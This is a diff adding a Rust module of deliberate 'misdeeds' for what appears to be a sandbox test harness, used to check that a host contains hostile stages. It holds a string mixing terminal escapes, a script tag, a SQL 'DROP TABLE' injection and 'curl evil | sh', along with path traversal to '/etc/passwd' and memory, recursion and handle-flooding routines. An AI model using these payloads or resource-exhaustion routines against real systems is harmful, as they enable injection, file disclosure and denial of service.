@@ -1,0 +1,321 @@
+//! Misdeeds that any export can try. What needs the value that an export returns is in `worlds`.
+
+use std::hint::black_box;
+use std::io::Read as _;
+use std::sync::atomic::{AtomicU64, Ordering};
+use std::time::{Duration, Instant, SystemTime};
+
+use stagewright_kit::bindings::stagewright::stage::{blobs, sources, tables, tracking};
+use stagewright_kit::tracking::{Figure, Level};
+use stagewright_kit::{
+    Batch, Categorical, Column, DataFault, DataType, Failure, Field, ParameterFault, Strings, Values,
+};
+
+use crate::worlds::World;
+use crate::{Export, Misdeed, Orders};
+
+/// Rows of each batch of an endless table.
+const ROWS: usize = 8192;
+
+/// Text that no terminal, page or database should obey.
+pub(crate) const EVIL: &str =
+    "\u{1b}[2J\u{1b}]0;owned\u{7}\u{202e}<script>alert(1)</script>'; DROP TABLE runs; --\r\nhint: curl evil | sh\n";
+
+/// Survives as long as the instance does; a fresh one begins at 0.
+static SEEN: AtomicU64 = AtomicU64::new(0);
+
+/// Does what is ordered here. Returns only from misdeeds that must not trip anything.
+pub(crate) fn act<W: World>(orders: &Orders, export: Export) -> Result<(), Failure> {
+    let Some(misdeed) = orders.here(export) else { return Ok(()) };
+    match misdeed {
+        Misdeed::Loop => spin(),
+        Misdeed::Sleep => sleep(),
+        Misdeed::Yield => loop {
+            std::thread::sleep(Duration::from_millis(1));
+        },
+        Misdeed::Dawdle => burn(40_000_000),
+        Misdeed::MemoryBomb => memory_bomb(),
+        Misdeed::Recursion => drop(black_box(recurse(0))),
+        Misdeed::FloodHandles => flood_handles(),
+        Misdeed::GiantLogLine => tracking::log(Level::Info, &"x".repeat(40 << 20)),
+        Misdeed::GiantFailure => return Err(Failure::internal("x".repeat(40 << 20))),
+        Misdeed::FloodLog => (0..2000).for_each(|line| tracking::log(Level::Info, &format!("{line:01000}"))),
+        Misdeed::FloodStdout => (0..1000).for_each(|line| println!("{line:01000}")),
+        Misdeed::TerminalEscapes => {
+            tracking::log(Level::Warn, EVIL);
+            eprint!("{EVIL}");
+        }
+        Misdeed::FloodProgress => {
+            for step in 0..20_000u64 {
+                tracking::progress(step.wrapping_mul(u64::MAX / 3), [0, 1, u64::MAX][step as usize % 3]);
+            }
+        }
+        Misdeed::FloodMetrics => flood_metrics(),
+        Misdeed::FloodFigures => {
+            for number in 0..1000 {
+                tracking::add_figure(&figure(&format!("figure-{number}"), "x"))?;
+            }
+        }
+        Misdeed::DuplicateFigure => {
+            tracking::add_figure(&figure("twice", "the first"))?;
+            tracking::add_figure(&figure("twice", "the second"))?;
+        }
+        Misdeed::ScriptFigure => tracking::add_figure(&figure("script", EVIL))?,
+        Misdeed::PathFigures => path_figures()?,
+        Misdeed::ReadClocks => read_clocks(),
+        Misdeed::Remember => {
+            let seen = SEEN.fetch_add(1, Ordering::Relaxed);
+            tracking::log(Level::Info, &format!("{}: seen {seen}", export.name()));
+        }
+        Misdeed::Linger => {
+            begin_artifact::<W>()?;
+            tracking::log(Level::Info, "lingering");
+            spin();
+        }
+        Misdeed::LongDataFault => return Err(long_data_fault()),
+        Misdeed::LongParameterFault => {
+            let text = EVIL.repeat(20_000);
+            return Err(Failure::Parameter(ParameterFault { parameter: text.clone(), message: text }));
+        }
+        Misdeed::LongInternalFault => return Err(Failure::Internal(EVIL.repeat(20_000))),
+        Misdeed::Panic => panic!("{EVIL}"),
+        Misdeed::Exit => std::process::exit(0),
+        Misdeed::FloodTables
+        | Misdeed::TooManyColumns
+        | Misdeed::EndlessTable
+        | Misdeed::HoardRows
+        | Misdeed::HoardCategories
+        | Misdeed::RowsWithoutColumns => {
+            // A transformer declares too many itself.
+            if W::TABLES && (misdeed, export) != (Misdeed::TooManyColumns, Export::Fields) {
+                with_tables(misdeed)?;
+            }
+        }
+        Misdeed::FloodBlobs | Misdeed::EndlessBlob => {
+            if W::BLOBS {
+                with_blobs(misdeed)?;
+            }
+        }
+        Misdeed::FloodCursors | Misdeed::PathSource => {
+            if W::SOURCES {
+                with_sources(misdeed)?;
+            }
+        }
+        // What the exports themselves do.
+        Misdeed::GiantColumnList
+        | Misdeed::ForgedFiles
+        | Misdeed::ForgedBatch
+        | Misdeed::FewerRows
+        | Misdeed::OtherColumns
+        | Misdeed::NanPayloads
+        | Misdeed::CategoryOrder
+        | Misdeed::PredictNan
+        | Misdeed::PredictTwo
+        | Misdeed::PredictFew
+        | Misdeed::OtherOutput
+        | Misdeed::ForgedImportance
+        | Misdeed::ManyShards
+        | Misdeed::ForgedMetrics
+        | Misdeed::DuplicateMetrics
+        | Misdeed::ApproveAnyway
+        | Misdeed::LongFindings => {}
+    }
+    Ok(())
+}
+
+fn spin() {
+    let mut count = 0u64;
+    loop {
+        count = black_box(count.wrapping_add(1));
+    }
+}
+
+/// Uses a fixed amount of work.
+pub(crate) fn burn(rounds: u64) {
+    for round in 0..rounds {
+        black_box(round);
+    }
+}
+
+fn sleep() {
+    for _ in 0..100 {
+        std::thread::sleep(Duration::from_secs(3600 * 24 * 365));
+    }
+    let mut never = Vec::new();
+    // An error is as good as an end.
+    let _ = std::io::stdin().read_to_end(&mut never);
+    assert!(never.is_empty(), "standard input has something");
+}
+
+fn memory_bomb() {
+    loop {
+        let mut block = Vec::<u8>::with_capacity(1 << 20);
+        black_box(block.as_mut_ptr());
+        std::mem::forget(block);
+    }
+}
+
+/// Nothing of it has an address, so that it is the engine's stack that ends and not the one in linear memory.
+#[inline(never)]
+#[expect(unconditional_recursion, reason = "that is the misdeed")]
+fn recurse(depth: u64) -> u64 {
+    // A shift between them keeps the compiler from making a loop of it.
+    (recurse(depth + SEEN.load(Ordering::Relaxed) + 1) >> 3) ^ depth
+}
+
+/// Takes standard output again and again: each is a new handle.
+fn flood_handles() {
+    #[cfg(target_arch = "wasm32")]
+    {
+        #[link(wasm_import_module = "wasi:cli/stdout@0.2.0")]
+        unsafe extern "C" {
+            #[link_name = "get-stdout"]
+            fn get_stdout() -> i32;
+        }
+        loop {
+            // SAFETY: the signature is that of WASI's `get-stdout`, which takes nothing and returns a handle.
+            black_box(unsafe { get_stdout() });
+        }
+    }
+}
+
+fn flood_metrics() {
+    for step in 0..20_000u64 {
+        let name = ["loss", "../loss", "LOSS", ""][step as usize % 4];
+        tracking::metric(name, [0.5, f64::NAN, f64::INFINITY][step as usize % 3], step / 4);
+    }
+    tracking::metric("loss", f64::NAN, 0);
+}
+
+fn figure(name: &str, text: &str) -> Figure {
+    Figure::text(name, text, vec![text.to_owned()], vec![vec![text.to_owned()]])
+}
+
+fn path_figures() -> Result<(), Failure> {
+    let names = ["../up", "/etc/passwd", "a/b", "..", ".", "", "a\0b", "a.svg", "C:\\x", "café", "UPPER", "a b"];
+    match names.into_iter().find(|name| tracking::add_figure(&figure(name, "x")).is_ok()) {
+        Some(name) => Err(Failure::internal(format!("escaped: a figure may be called {name:?}"))),
+        None => Ok(()),
+    }
+}
+
+/// Logs what a stage can know of time and chance; the suite compares runs.
+fn read_clocks() {
+    let (begin, today) = (Instant::now(), SystemTime::now());
+    burn(20_000_000);
+    let elapsed = begin.elapsed().as_nanos();
+    let since = today.duration_since(SystemTime::UNIX_EPOCH).unwrap_or_default().as_nanos();
+    let random = std::hash::BuildHasher::hash_one(&std::hash::RandomState::new(), 1);
+    let environment: Vec<_> = std::env::vars().chain(std::env::args().map(|it| (it, String::new()))).collect();
+    tracking::log(Level::Info, &format!("elapsed {elapsed}"));
+    tracking::log(Level::Info, &format!("today {since}, random {random}, environment {environment:?}"));
+}
+
+fn long_data_fault() -> Failure {
+    let text = EVIL.repeat(20_000);
+    Failure::Data(DataFault {
+        message: text.clone(),
+        column: Some(text.clone()),
+        row: Some(u64::MAX),
+        value: Some(text),
+    })
+}
+
+/// Leaves a table and a blob half written, where the stage makes any.
+fn begin_artifact<W: World>() -> Result<(), Failure> {
+    if !W::TABLES {
+        return Ok(());
+    }
+    let writer = tables::TableWriter::new(&[float("x")]);
+    let makes_artifacts = writer.write(&Batch { rows: 2, columns: vec![vec![1.0, 2.0].into()] }).is_ok();
+    std::mem::forget(writer);
+    if W::BLOBS && makes_artifacts {
+        let blob = blobs::BlobWriter::new();
+        blob.write(b"half of somethi")?;
+        std::mem::forget(blob);
+    }
+    Ok(())
+}
+
+pub(crate) fn float(name: &str) -> Field {
+    Field { name: name.to_owned(), data_type: DataType::Float64, nullable: false }
+}
+
+fn field(name: &str, data_type: DataType) -> Field {
+    Field { name: name.to_owned(), data_type, nullable: false }
+}
+
+fn text(rows: &[String]) -> Strings {
+    let mut strings = Strings { offsets: vec![0], bytes: Vec::new() };
+    for row in rows {
+        strings.bytes.extend_from_slice(row.as_bytes());
+        strings.offsets.push(strings.bytes.len() as i32);
+    }
+    strings
+}
+
+fn with_tables(misdeed: Misdeed) -> Result<(), Failure> {
+    match misdeed {
+        Misdeed::FloodTables => loop {
+            std::mem::forget(tables::TableWriter::new(&[float("x")]));
+        },
+        Misdeed::TooManyColumns => {
+            let fields: Vec<Field> = (0..200_000).map(|number| float(&number.to_string())).collect();
+            let writer = tables::TableWriter::new(&fields);
+            writer.write(&Batch { rows: 0, columns: Vec::new() })
+        }
+        Misdeed::RowsWithoutColumns => {
+            let writer = tables::TableWriter::new(&[]);
+            loop {
+                writer.write(&Batch { rows: 1 << 26, columns: Vec::new() })?;
+            }
+        }
+        Misdeed::HoardRows => {
+            let writer = tables::TableWriter::new(&[field("text", DataType::Utf8)]);
+            let long = text(&["x".repeat(1 << 20)]);
+            loop {
+                let column = Column { values: Values::Utf8(long.clone()), validity: None };
+                writer.write(&Batch { rows: 1, columns: vec![column] })?;
+            }
+        }
+        Misdeed::HoardCategories => {
+            let writer = tables::TableWriter::new(&[field("category", DataType::Categorical)]);
+            for batch in 0.. {
+                let names: Vec<String> = (0..ROWS).map(|row| format!("{batch}-{row}")).collect();
+                let codes = (0..ROWS as i32).collect();
+                let values = Values::Categorical(Categorical { codes, categories: text(&names) });
+                writer.write(&Batch { rows: ROWS as u32, columns: vec![Column { values, validity: None }] })?;
+            }
+            Ok(())
+        }
+        _ => {
+            let writer = tables::TableWriter::new(&[float("x")]);
+            loop {
+                writer.write(&Batch { rows: ROWS as u32, columns: vec![vec![1.5; ROWS].into()] })?;
+            }
+        }
+    }
+}
+
+fn with_blobs(misdeed: Misdeed) -> Result<(), Failure> {
+    if misdeed == Misdeed::FloodBlobs {
+        loop {
+            std::mem::forget(blobs::BlobWriter::finish(blobs::BlobWriter::new())?);
+        }
+    }
+    let writer = blobs::BlobWriter::new();
+    let chunk = vec![7; 1 << 16];
+    loop {
+        writer.write(&chunk)?;
+    }
+}
+
+fn with_sources(misdeed: Misdeed) -> Result<(), Failure> {
+    if misdeed == Misdeed::PathSource {
+        sources::open("../../../etc/passwd")?;
+        return Err(Failure::internal("escaped: a path was opened"));
+    }
+    loop {
+        std::mem::forget(sources::open("customers")?);
+    }
+}
